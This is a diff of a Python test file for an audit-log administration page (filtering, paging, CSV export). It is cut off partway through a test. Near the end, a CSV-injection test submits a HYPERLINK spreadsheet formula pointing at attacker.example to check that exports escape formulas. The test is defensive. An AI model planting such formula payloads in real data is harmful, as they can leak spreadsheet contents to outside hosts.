@@ -10,15 +10,41 @@ import json
 import re
 from collections.abc import Callable
 from typing import Any
+from urllib.parse import urlencode
 
 import pytest
-from sqlmodel import select
+from bs4 import BeautifulSoup
+from sqlmodel import Session, select
 
 from mlat.audit_actions import AuditAction
-from mlat.models import AuditEntry, MlaRequest, Role, User
+from mlat.models import AuditEntry, Role, User
 from mlat.services import audit
 from tests.audit_trail import trail
-from tests.conftest import Client
+from tests.conftest import (
+    Client,
+    LoginAs,
+    MakeRequest,
+    MakeUser,
+    PageClient,
+    check_page,
+    form_errors,
+    rows,
+    text_of,
+    texts,
+)
+
+
+def entries(page: BeautifulSoup) -> list[dict[str, str]]:
+    """The log's rows, newest first, each by its column heading."""
+    if page.select_one("table.audit") is None:
+        return []
+    headings = texts(page, "table.audit thead th")
+    return [dict(zip(headings, row, strict=True)) for row in rows(page, "table.audit")]
+
+
+def menu(page: BeautifulSoup) -> list[str]:
+    return texts(page, "header nav a")
+
 
 # The administrators' log page --------------------------------------------------------------
 
@@ -26,22 +52,23 @@ from tests.conftest import Client
 @pytest.mark.parametrize("url", ["/admin/audit", "/admin/audit.csv"])
 @pytest.mark.parametrize("role", [Role.officer, Role.reviewer, Role.prosecutor])
 def test_only_administrators_see_the_audit_log(
-    client: Client, login_as: Callable[..., User], url: str, role: Role, db: Any
+    client: Client, login_as: LoginAs, url: str, role: Role, db: Session
 ) -> None:
     login_as(role)
     response = client.get(url)
     assert response.status_code == 403
-    assert "You do not have permission to do this." in response.text
-    assert "Audit log" not in client.get("/").text  # not offered in the menu
+    assert text_of(check_page(response).h1) == "You do not have permission to do this."
+    assert "Audit log" not in menu(check_page(client.get("/")))  # not offered in the menu
     assert "audit.export" not in [row[0] for row in trail(db)]
 
 
 def test_admin_filters_the_log(
     client: Client,
-    login_as: Callable[..., User],
-    make_user: Callable[..., User],
-    make_request: Callable[..., MlaRequest],
-    db: Any,
+    client_request: PageClient,
+    login_as: LoginAs,
+    make_user: MakeUser,
+    make_request: MakeRequest,
+    db: Session,
 ) -> None:
     officer = make_user(Role.officer)
     request = make_request(officer, title="Ransomware at a clinic")
@@ -52,32 +79,29 @@ def test_admin_filters_the_log(
     client.login(officer.email, "a wrong password, twice")
     admin = login_as(Role.admin)
 
-    page = client.get("/admin/audit")
-    assert page.status_code == 200
-    assert "Audit log" in client.get("/").text  # the menu offers it
-    assert page.text.index("login") < page.text.index("request.create")  # newest first
-    assert officer.email in page.text and admin.email in page.text
+    page = client_request.get("/admin/audit")
+    assert "Audit log" in menu(client_request.get("/"))  # the menu offers it
+    actions = [entry["Action"] for entry in entries(page)]
+    assert actions.index("login") < actions.index("request.create")  # newest first
+    users = {entry["User"] for entry in entries(page)}
+    assert {f"{officer.name} <{officer.email}>", f"{admin.name} <{admin.email}>"} <= users
 
-    def rows(**args: str) -> str:
-        response = client.get("/admin/audit", query_string=args)
-        assert response.status_code == 200
-        return response.text.split("<tbody>")[1] if "<tbody>" in response.text else ""
+    def listed(**args: str) -> list[dict[str, str]]:
+        return entries(client_request.get("/admin/audit?" + urlencode(args)))
 
-    by_user = rows(user=officer.email.upper())
-    assert "request.create" in by_user and admin.email not in by_user
-    by_action = rows(action="login")
-    assert "login" in by_action and "request.create" not in by_action
-    assert by_action.count("failure") == 1
-    by_object = rows(object_type="request", object_id=str(request.id))
-    assert by_object.count("<tr>") == 1 and "request.create" in by_object
-    by_date = rows(date_from="2026-01-10", date_to="2026-01-10")
-    assert by_date.count("<tr>") == 1 and f"request {other.id}" in by_date
-    assert (
-        "No entry matches these filters."
-        in client.get(
-            "/admin/audit", query_string={"date_from": "2025-01-01", "date_to": "2025-01-02"}
-        ).text
-    )
+    by_user = listed(user=officer.email.upper())
+    assert "request.create" in [e["Action"] for e in by_user]
+    assert {e["User"] for e in by_user} == {f"{officer.name} <{officer.email}>"}
+    by_action = listed(action="login")
+    assert {e["Action"] for e in by_action} == {"login"}
+    assert [e["Outcome"] for e in by_action].count("failure") == 1
+    [by_object] = listed(object_type="request", object_id=str(request.id))
+    assert (by_object["Action"], by_object["Object"]) == ("request.create", f"request {request.id}")
+    [by_date] = listed(date_from="2026-01-10", date_to="2026-01-10")
+    assert by_date["Object"] == f"request {other.id}"
+    empty = client_request.get("/admin/audit?date_from=2025-01-01&date_to=2025-01-02")
+    assert entries(empty) == []
+    assert "No entry matches these filters." in texts(empty, "main > p")
 
 
 @pytest.mark.parametrize(
@@ -91,37 +115,40 @@ def test_admin_filters_the_log(
     ids=["unknown-user", "bad-email", "bad-date", "dates-reversed"],
 )
 def test_filters_that_do_not_fit_are_explained(
-    client: Client, login_as: Callable[..., User], args: dict[str, str], message: str
+    client: Client, login_as: LoginAs, args: dict[str, str], message: str
 ) -> None:
     login_as(Role.admin)
     for url in ("/admin/audit", "/admin/audit.csv"):
         response = client.get(url, query_string=args)
         assert response.status_code == 400
-        assert message in response.text
-        assert "There is a problem" in response.text
+        page = check_page(response)
+        assert any(error.startswith(message) for error in form_errors(page)), form_errors(page)
+        assert text_of(page.select_one(".error-summary h2")) == "There is a problem"
 
 
-def test_log_pages_newest_first(client: Client, login_as: Callable[..., User], db: Any) -> None:
+def test_log_pages_newest_first(client_request: PageClient, login_as: LoginAs, db: Session) -> None:
     login_as(Role.admin)
     for n in range(120):
         audit.record(
             session=db, action=AuditAction.request_view, object_type="request", object_id=1000 + n
         )
     db.commit()
-    first = client.get("/admin/audit", query_string={"action": "request.view"})
-    assert "request 1119" in first.text and "request 1020" in first.text
-    assert "request 1019" not in first.text
-    older = first.text.split('rel="next"')[0].rsplit('href="', 1)[1].split('"')[0]
-    assert "before_seq=" in older and "action=request.view" in older
-    second = client.get(older.replace("&amp;", "&"))
-    assert "request 1019" in second.text and "request 1000" in second.text
-    assert "request 1020" not in second.text
-    assert 'rel="next"' not in second.text
-    assert "Newest entries" in second.text
+    first = client_request.get("/admin/audit?action=request.view")
+    objects = [entry["Object"] for entry in entries(first)]
+    assert objects == [f"request {n}" for n in range(1119, 1019, -1)]
+    older = first.select_one('.pager a[rel="next"]')
+    assert older is not None
+    href = str(older["href"])
+    assert "before_seq=" in href and "action=request.view" in href
+    second = client_request.get(href)
+    objects = [entry["Object"] for entry in entries(second)]
+    assert objects == [f"request {n}" for n in range(1019, 999, -1)]
+    assert second.select('.pager a[rel="next"]') == []
+    assert texts(second, ".pager a") == ["Newest entries"]
 
 
 def test_export_is_csv_escapes_formulas_and_is_itself_audited(
-    client: Client, login_as: Callable[..., User], db: Any
+    client: Client, login_as: LoginAs, db: Session
 ) -> None:
     formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
     client.login(formula, "whatever password")
